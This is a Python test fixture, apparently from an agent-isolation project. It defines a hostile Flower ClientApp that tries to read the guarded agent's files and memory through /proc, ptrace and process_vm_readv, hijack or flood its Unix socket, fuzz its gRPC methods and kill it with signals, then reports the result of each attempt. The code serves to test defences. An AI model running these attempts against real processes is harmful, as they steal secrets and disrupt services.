"""A ClientApp that a hostile server hands out: it tries to take what the agent guards.

`attack(targets)` -> {attempt: "denied: why" or "DONE: what it got"}. Run by itself (with TARGETS.json)
it prints that as JSON, so that a test can show that the same attempts succeed for the agent's own user.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

STAGES = ("Status", "Keys", "Shares", "Masked", "Confirm", "Unmask")
SERVICE = "/penchant.agent.v1.Agent/"
LIBC = ctypes.CDLL(None, use_errno=True)


class Denied(Exception):
    """The attempt came to nothing."""


def attack(targets: dict[str, Any]) -> dict[str, str]:
    """All attempts, in an order in which one that succeeds does not hide another."""
    home, sock, pid = Path(targets["home"]), Path(targets["socket"]), int(targets["pid"])
    found = {}
    for name, attempt in [
        *files(home, targets["files"]),
        *process(pid),
        *the_socket(sock),
        *signals(pid),
    ]:
        try:
            found[name] = f"DONE: {attempt()!r}"[:200]
        except (OSError, Denied) as error:
            found[name] = f"denied: {error}"[:200]
    return found


def files(home: Path, names: list[str]) -> Iterator[tuple[str, Callable[[], Any]]]:
    yield "list the home", lambda: os.listdir(home)
    for name in names:
        yield f"read {name}", lambda name=name: (home / name).read_bytes()[:20]
        yield f"write {name}", lambda name=name: os.close(os.open(home / name, os.O_WRONLY))
    yield "make a file in the home", lambda: (home / "paused").write_text("")
    yield "rename the policy", lambda: os.rename(home / "policy.toml", home / "old.toml")
    yield "link the vault", lambda: link(home / "vault.db", Path(f"/tmp/link-{os.getpid()}"))
    yield (
        "hold the agent's lock",
        lambda: fcntl.flock(os.open(home / "agent.lock", os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB),
    )


def link(path: Path, name: Path) -> None:
    os.link(path, name)
    name.unlink()


def process(pid: int) -> Iterator[tuple[str, Callable[[], Any]]]:
    for name in ("mem", "environ", "maps", "auxv", "stack", "syscall"):
        yield (
            f"read /proc/PID/{name}",
            lambda name=name: os.read(os.open(f"/proc/{pid}/{name}", os.O_RDONLY), 20),
        )
    yield "list /proc/PID/fd", lambda: os.listdir(f"/proc/{pid}/fd")
    yield "enter /proc/PID/root", lambda: os.listdir(f"/proc/{pid}/root")
    yield "enter /proc/PID/cwd", lambda: os.listdir(f"/proc/{pid}/cwd")
    yield "write /proc/PID/mem", lambda: os.open(f"/proc/{pid}/mem", os.O_WRONLY)
    yield "process_vm_readv", lambda: vm_readv(pid)
    yield "ptrace", lambda: ptrace(pid)
    yield "pidfd_getfd", lambda: pidfd_getfd(pid)
    yield "prlimit", lambda: resource.prlimit(pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    yield "setpriority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)


class _Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def vm_readv(pid: int) -> int:
    """Bytes read from the agent's stack, whose address /proc/PID/stat may hide: our own stands in for it."""
    buffer = ctypes.create_string_buffer(64)
    here = _Span(ctypes.addressof(buffer), 64)
    there = _Span(ctypes.addressof(buffer), 64)
    return checked(LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))


def ptrace(pid: int) -> int:
    attach, detach = 16, 17
    done = checked(LIBC.ptrace(attach, pid, None, None))
    os.waitpid(pid, 0x40000000)
    LIBC.ptrace(detach, pid, None, None)
    return done


def pidfd_getfd(pid: int) -> int:
    return checked(LIBC.syscall(438, os.pidfd_open(pid), 0, 0))


def checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def the_socket(path: Path) -> Iterator[tuple[str, Callable[[], Any]]]:
    yield "replace the socket", lambda: replace(path)
    yield "remove the socket", lambda: os.unlink(path)
    yield "write beside the socket", lambda: (path.parent / "mine").write_text("")
    yield "open the socket to all", lambda: os.chmod(path, 0o777)
    for method in ("Read", "Export", "Vault", "Train"):
        yield f"call {method}", lambda method=method: call(path, SERVICE + method, b"")
    yield (
        "call reflection",
        lambda: call(path, "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", b""),
    )
    for stage in STAGES:
        for what, payload in {
            "nothing": b"",
            "junk": b"PEN\x03" + bytes(range(256)),
            "a path": str(path).encode(),
            "half a megabyte": os.urandom(1 << 19),
        }.items():
            yield f"{stage} with {what}", lambda s=stage, p=payload: call(path, SERVICE + s, envelope(p))
    yield "a message of 65 MB", lambda: call(path, SERVICE + "Keys", envelope(bytes(65 << 20)))
    yield "no envelope", lambda: call(path, SERVICE + "Keys", b"\xff" * 50)
    yield "raw junk on 150 connections", lambda: flood(path)


def envelope(payload: bytes) -> bytes:
    """The protobuf bytes of an `Envelope`."""
    size, length = len(payload), b""
    while size > 127:
        length += bytes([size & 127 | 128])
        size >>= 7
    return b"\x0a" + length + bytes([size]) + payload


def call(path: Path, method: str, data: bytes) -> bytes:
    """What the agent answers, unless it is a refusal: six bytes, one code."""
    import grpc

    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    with grpc.insecure_channel(f"unix:{path}", options=options) as channel:
        try:
            raw: bytes = channel.unary_unary(method)(data, timeout=30)
        except grpc.RpcError as error:
            raise Denied(error.code().name) from None  # type: ignore[attr-defined]
    abort = b"PEN\x03\x01"
    if raw[:2] == b"\x0a\x06" and raw[2:7] == abort and len(raw) == 8:
        raise Denied(f"abort {raw[7]}")
    return raw


def flood(path: Path) -> str:
    opened = []
    for _ in range(150):
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(5)
        opened.append(one)
        try:
            one.connect(str(path))
            one.sendall(os.urandom(2000))
        except OSError:
            continue
    for one in opened:
        one.close()
    raise Denied("nothing came back")


def replace(path: Path) -> None:
    mine = f"/tmp/mine-{os.getpid()}.sock"
    with socket.socket(socket.AF_UNIX) as other:
        other.bind(mine)
        try:
            os.rename(mine, path)
        finally:
            os.unlink(mine)


def signals(pid: int) -> Iterator[tuple[str, Callable[[], Any]]]:
    for which in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        yield f"send {which.name}", lambda which=which: os.kill(pid, which)


# --- as Flower runs it ----------------------------------------------------------------------------

TARGETS: dict[str, Any] = {}  # written in by the test that makes a bundle of this file


def apps() -> tuple[Any, Any]:
    """(ServerApp, ClientApp): one message there, what was found back."""
    from flwr.app import ConfigRecord, Context, Message, RecordDict
    from flwr.clientapp import ClientApp
    from flwr.serverapp import Grid, ServerApp

    server, client = ServerApp(), ClientApp()

    @server.main()
    def main(grid: Grid, context: Context) -> None:
        import time

        while not (nodes := list(grid.get_node_ids())):
            time.sleep(1)
        order = Message(content=RecordDict(), dst_node_id=nodes[0], message_type="train.loot")
        (reply,) = grid.send_and_receive([order], timeout=240)
        loot = (
            reply.content["loot"]["found"] if reply.has_content() else json.dumps({"error": str(reply.error)})
        )
        Path(TARGETS["out"]).write_text(loot)

    @client.train("loot")
    def loot(message: Message, context: Context) -> Message:
        found = attack(TARGETS) | {"user": str(os.getuid())}
        return Message(RecordDict({"loot": ConfigRecord({"found": json.dumps(found)})}), reply_to=message)

    return server, client


if __name__ == "__main__":
    print(json.dumps(attack(json.loads(Path(sys.argv[1]).read_text()))))
